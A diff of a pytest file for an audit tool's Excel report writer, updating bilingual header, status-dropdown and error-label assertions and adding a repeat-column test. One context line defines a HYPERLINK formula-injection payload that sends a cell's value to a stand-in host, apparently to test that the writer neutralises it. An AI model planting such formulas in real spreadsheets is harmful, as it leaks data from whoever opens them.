@@ -9,7 +9,7 @@ import pytest
 from checker.config import Config
 from checker.engine import AuditContext, build_rules
 from checker.models import ErrorRecord, Finding, Severity
-from checker.reports.sheetwriter import WorkbookWriter
+from checker.reports.sheetwriter import WorkbookWriter, column_letter
 from checker.reports.xlsx import FINDING_COLUMNS, write_workbook
 
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -40,7 +40,7 @@ def test_sheets_and_bilingual_headers(tmp_path):
     headers = [c.value for c in ws[1]]
     assert headers[:3] == ["序号 No.", "严重程度 Severity", "代码 Code"] and "状态 Status" in headers
     assert ws.freeze_panes == "A2"
-    assert ws.auto_filter.ref == "A1:Q2"
+    assert ws.auto_filter.ref == f"A1:{column_letter(len(FINDING_COLUMNS))}2"
     assert ws.column_dimensions["H"].width == 50
     assert [c.value for c in wb["Errors"][1]] == ["阶段 Stage", "来源 Source", "位置 Location", "原因 Reason"]
 
@@ -49,9 +49,9 @@ def test_hyperlink_status_dropdown_and_colour(tmp_path):
     ws = make(tmp_path, [finding(), finding(code="LN004", severity=Severity.WARNING)])["Findings"]
     url_cell = ws.cell(row=2, column=col("链接 URL"))
     assert url_cell.hyperlink is not None and url_cell.hyperlink.target == "http://127.0.0.1:1/p/a.html"
-    assert ws.cell(row=2, column=col("状态 Status")).value == "Open"
+    assert ws.cell(row=2, column=col("状态 Status")).value == "未处理 Open"
     (dv,) = ws.data_validations.dataValidation
-    assert dv.type == "list" and dv.formula1 == '"Open,Fixed,Accepted"'
+    assert dv.type == "list" and dv.formula1 == '"未处理 Open,已修复 Fixed,已接受 Accepted"'
     assert "N2:N1000" in str(dv.sqref)
     assert ws.cell(row=2, column=col("严重程度 Severity")).fill.fgColor.rgb.endswith("F8CBAD")
     assert ws.cell(row=3, column=col("严重程度 Severity")).fill.fgColor.rgb.endswith("FFE699")
@@ -77,8 +77,8 @@ def test_errors_sheet_and_summary(tmp_path):
               ErrorRecord(stage="read", source="inventory.csv", location="row 7, column 到期日", reason="bad date")]
     wb = make(tmp_path, [finding()], errors, partial=True)
     rows = list(wb["Errors"].iter_rows(min_row=2, values_only=True))
-    assert rows == [("fetch", "http://127.0.0.1:1/p/x.html", None, "HTTP 404"),
-                    ("read", "inventory.csv", "row 7, column 到期日", "bad date")]
+    assert rows == [("抓取 fetch", "http://127.0.0.1:1/p/x.html", None, "页面不存在 / HTTP 404"),
+                    ("读取 read", "inventory.csv", "row 7, column 到期日", "bad date")]
     summary = {r[0]: r[1] for r in wb["Summary"].iter_rows(values_only=True) if r[0]}
     assert summary["状态 Status"].endswith("PARTIAL")
     assert summary["读取错误 Input errors"] == 2 and summary["发现问题 Findings"] == 1
@@ -105,3 +105,13 @@ def test_summary_counts_product_pages_not_read(tmp_path):
     wb = make(tmp_path, [finding(), *unread])
     summary = {r[0]: r[1] for r in wb["Summary"].iter_rows(values_only=True) if r[0]}
     assert summary["无法读取商品的页面 Product pages not read (PR007)"] == 3
+
+
+def test_repeat_columns(tmp_path):
+    """A finding CP002 escalated says so in its Repeat columns (the complaint sheets are the CP pack's:
+    tests/test_complaints_store.py)."""
+    repeat = finding(code="ST004", sku="A1", repeat_of=["T1", "T2"], escalated_by="CP002")
+    ws = make(tmp_path, [repeat, finding()])["Findings"]
+    assert ws.cell(row=2, column=col("重犯 Repeat")).value == "是 yes"
+    assert ws.cell(row=2, column=col("历史投诉 Complaint ids")).value == "T1, T2"
+    assert ws.cell(row=3, column=col("重犯 Repeat")).value is None
